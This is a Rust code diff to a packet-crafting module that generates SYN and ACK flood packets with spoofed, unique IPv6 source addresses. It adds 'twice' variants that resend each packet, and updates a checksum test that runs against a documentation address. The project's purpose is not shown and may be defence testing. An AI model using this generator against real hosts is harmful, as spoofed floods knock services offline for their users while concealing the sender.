@@ -19,23 +19,42 @@ const TCP_BYTES: usize = 20;
 const MSS_OPTION: [u8; 4] = [2, 4, 0x05, 0xa0];
 const HOP_LIMIT: u8 = 64;
 
-/// The flag that makes a flood.
+/// Of what a flood is made.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum, Serialize, Deserialize)]
-#[serde(rename_all = "lowercase")]
+#[serde(rename_all = "kebab-case")]
 pub enum Kind {
     /// New connections that will never be finished.
     Syn,
     /// Packets of connections that never were.
     Ack,
+    /// As SYN, each of them sent again as a client's kernel would do it.
+    SynTwice,
+    /// As ACK, each of them sent again.
+    AckTwice,
 }
 
 impl Kind {
+    /// All of them.
+    pub const ALL: [Kind; 4] = [Kind::Syn, Kind::Ack, Kind::SynTwice, Kind::AckTwice];
+
     /// As in tables.
     pub const fn name(self) -> &'static str {
         match self {
             Kind::Syn => "SYN",
             Kind::Ack => "ACK",
+            Kind::SynTwice => "SYN, twice",
+            Kind::AckTwice => "ACK, twice",
         }
+    }
+
+    /// Is every packet a SYN?
+    pub const fn is_syn(self) -> bool {
+        matches!(self, Kind::Syn | Kind::SynTwice)
+    }
+
+    /// Is every packet sent again?
+    pub const fn is_twice(self) -> bool {
+        matches!(self, Kind::SynTwice | Kind::AckTwice)
     }
 }
 
@@ -61,9 +80,9 @@ impl Packets {
 
     /// Size of each packet.
     pub const fn bytes(&self) -> usize {
-        match self.kind {
-            Kind::Syn => IPV6_BYTES + TCP_BYTES + MSS_OPTION.len(),
-            Kind::Ack => IPV6_BYTES + TCP_BYTES,
+        match self.kind.is_syn() {
+            true => IPV6_BYTES + TCP_BYTES + MSS_OPTION.len(),
+            false => IPV6_BYTES + TCP_BYTES,
         }
     }
 
@@ -84,12 +103,12 @@ impl Packets {
         tcp[2..4].copy_from_slice(&self.port.to_be_bytes());
         tcp[4..12].copy_from_slice(&self.rng.next_u64().to_be_bytes());
         tcp[12] = ((payload_bytes / 4) << 4) as u8;
-        tcp[13] = match self.kind {
-            Kind::Syn => Tcp::SYN,
-            Kind::Ack => Tcp::ACK,
+        tcp[13] = match self.kind.is_syn() {
+            true => Tcp::SYN,
+            false => Tcp::ACK,
         };
         tcp[14..20].copy_from_slice(&[0xff, 0xff, 0, 0, 0, 0]);
-        if self.kind == Kind::Syn {
+        if self.kind.is_syn() {
             tcp[8..12].fill(0);
             tcp[20..24].copy_from_slice(&MSS_OPTION);
         }
@@ -113,7 +132,7 @@ mod tests {
     fn packets_are_what_they_say_and_their_checksums_are_right() {
         let target: Ipv6Addr = "2001:db8:80::1".parse().unwrap();
         let net: ipnet::Ipv6Net = SPOOFED.parse().unwrap();
-        for kind in [Kind::Syn, Kind::Ack] {
+        for kind in Kind::ALL {
             let mut packets = Packets::new(kind, target, 80, 7);
             let mut sources = std::collections::HashSet::new();
             for _ in 0..1_000 {
@@ -124,8 +143,8 @@ mod tests {
                 assert_eq!((packet.dst, packet.len), (target, bytes.len()));
                 assert!(net.contains(&packet.src));
                 assert!(checksum::is_right(&bytes, &packet));
-                assert_eq!(tcp.is_syn(), kind == Kind::Syn);
-                assert_eq!(tcp.has(Tcp::ACK), kind == Kind::Ack);
+                assert_eq!(tcp.is_syn(), kind.is_syn());
+                assert_eq!(tcp.has(Tcp::ACK), !kind.is_syn());
                 sources.insert(packet.src);
             }
             assert_eq!(sources.len(), 1_000);
